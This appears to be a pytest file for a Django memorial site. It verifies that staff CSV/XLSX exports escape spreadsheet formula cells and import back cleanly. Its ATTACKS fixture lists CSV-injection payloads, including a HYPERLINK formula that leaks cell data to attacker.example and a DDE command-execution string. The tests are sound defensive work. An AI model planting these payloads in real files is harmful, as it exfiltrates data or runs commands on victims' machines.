"""Staff exports never hand a spreadsheet a cell it would run as a formula: the
import/export page and the records listing's "Download CSV" / "Download XLSX"."""

import csv
import io

import pytest
from openpyxl import load_workbook

from memorial import importing
from memorial.models import FallenVolunteer
from tests.memorial.factories import FallenVolunteerFactory

LISTING = "/admin/snippets/memorial/fallenvolunteer/"
# A value for each character that makes a spreadsheet cell a formula.
ATTACKS = {
    "=": '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def admin_client(client, django_user_model, home, sign_in):
    user = django_user_model.objects.create_superuser("admin", "a@example.org", "x")
    sign_in(client, user)
    return client


@pytest.fixture
def hostile_records(db):
    return [
        FallenVolunteerFactory(
            name_en=value, name_ar=value, external_id=f"{prefix}id-{number}"
        )
        for number, (prefix, value) in enumerate(ATTACKS.items())
    ]


def csv_rows(response):
    if response.streaming:
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_escaped(cells, xml=False):
    cells = [cell for cell in cells if cell]
    assert cells
    for cell in cells:
        assert not cell.startswith(tuple(ATTACKS)), repr(cell)
    for value in ATTACKS.values():
        # An XML reader may give a carriage return back as a line feed (openpyxl
        # without lxml does, with lxml it keeps it).
        shown = {f"'{value}", f"'{value}".replace("\r", "\n")} if xml else {f"'{value}"}
        assert shown & set(cells), value


def test_the_listing_download_csv_escapes_formula_cells(admin_client, hostile_records):
    response = admin_client.get(LISTING, {"export": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows) == len(ATTACKS)
    assert_escaped([cell for row in rows for cell in row.values()])


def test_the_listing_download_xlsx_escapes_formula_cells(admin_client, hostile_records):
    response = admin_client.get(LISTING, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert_escaped(
        [cell.value for cell in cells if isinstance(cell.value, str)], xml=True
    )


def test_the_staff_export_escapes_formula_cells_and_imports_back(
    admin_client, hostile_records
):
    rows = csv_rows(admin_client.get("/admin/memorial_import/export.csv"))
    assert_escaped([row["name_en"] for row in rows] + [row["name_ar"] for row in rows])
    # The apostrophe is taken off again when the file is imported.
    content = admin_client.get("/admin/memorial_import/export.csv").content
    result = importing.import_file(content)
    assert result.ok and result.updated == 0, result.errors
    names = set(FallenVolunteer.objects.values_list("name_en", flat=True))
    assert {value.strip() for value in ATTACKS.values()} <= {n.strip() for n in names}
